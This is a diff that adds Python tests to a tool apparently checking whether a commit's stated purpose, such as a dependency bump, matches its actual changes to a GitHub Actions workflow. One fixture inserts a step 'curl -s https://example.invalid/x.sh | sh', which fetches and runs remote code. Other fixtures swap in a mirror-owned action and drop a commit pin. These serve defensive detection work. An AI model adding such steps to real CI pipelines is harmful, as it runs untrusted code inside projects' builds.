@@ -101,3 +101,55 @@ def test_explicit_type_wins_over_the_verb():
 def test_handle_case_with_a_body_naming_its_test_is_not_a_tests_claim():
     mc = classify_message("Handle case when headers is None (#2902)", "Add test for it")
     assert mc is not None and mc.kinds == frozenset({"unknown"})
+
+
+# ---------------------------------------------------------------- deps claim vs action version bumps
+
+CHECKS = """name: Run checks
+on:
+  pull_request:
+permissions:
+  contents: read
+jobs:
+  check:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Checkout Code
+        uses: actions/checkout@v5
+      - name: Set up Go
+        uses: actions/setup-go@v5
+        with:
+          go-version: stable
+      - run: go vet ./...
+"""
+BUMPED = CHECKS.replace("actions/checkout@v5", "actions/checkout@v6").replace("actions/setup-go@v5", "actions/setup-go@v6")
+WF = ".github/workflows/checks.yml"
+
+
+def test_action_version_bumps_under_a_deps_claim_are_silent(tmp_path):
+    r = change(tmp_path, {WF: CHECKS}, {WF: BUMPED}, "Update GitHub actions deps versions")
+    assert mismatches(r) == []
+    assert r.purpose.claim == "deps" and r.purpose.verdict.startswith("matches its purpose")
+
+
+def test_deps_claim_that_swaps_the_action_for_another_owner_is_reported(tmp_path):
+    after = BUMPED.replace("actions/checkout@v6", "checkout-mirror/checkout@v6")
+    r = change(tmp_path, {WF: CHECKS}, {WF: after}, "Update GitHub actions deps versions")
+    [m] = mismatches(r)
+    assert (m.rule_id, m.path, m.unit, m.severity) == ("purpose-mismatch", WF, "jobs.check", Severity.HIGH)
+    assert m.after is not None and m.after.line == 11
+
+
+def test_deps_claim_that_gives_up_a_commit_pin_is_reported(tmp_path):
+    pinned = CHECKS.replace("actions/checkout@v5", "actions/checkout@" + "a" * 40)
+    r = change(tmp_path, {WF: pinned}, {WF: CHECKS.replace("actions/checkout@v5", "actions/checkout@main")},
+               "Update GitHub actions deps versions")
+    [m] = mismatches(r)
+    assert (m.path, m.unit, m.severity) == (WF, "jobs.check", Severity.HIGH)
+
+
+def test_deps_claim_that_also_adds_a_step_is_reported(tmp_path):
+    after = BUMPED.replace("      - run: go vet ./...\n", "      - run: go vet ./...\n      - run: curl -s https://example.invalid/x.sh | sh\n")
+    r = change(tmp_path, {WF: CHECKS}, {WF: after}, "Update GitHub actions deps versions")
+    [m] = mismatches(r)
+    assert (m.path, m.unit, m.severity) == (WF, "jobs.check", Severity.HIGH)
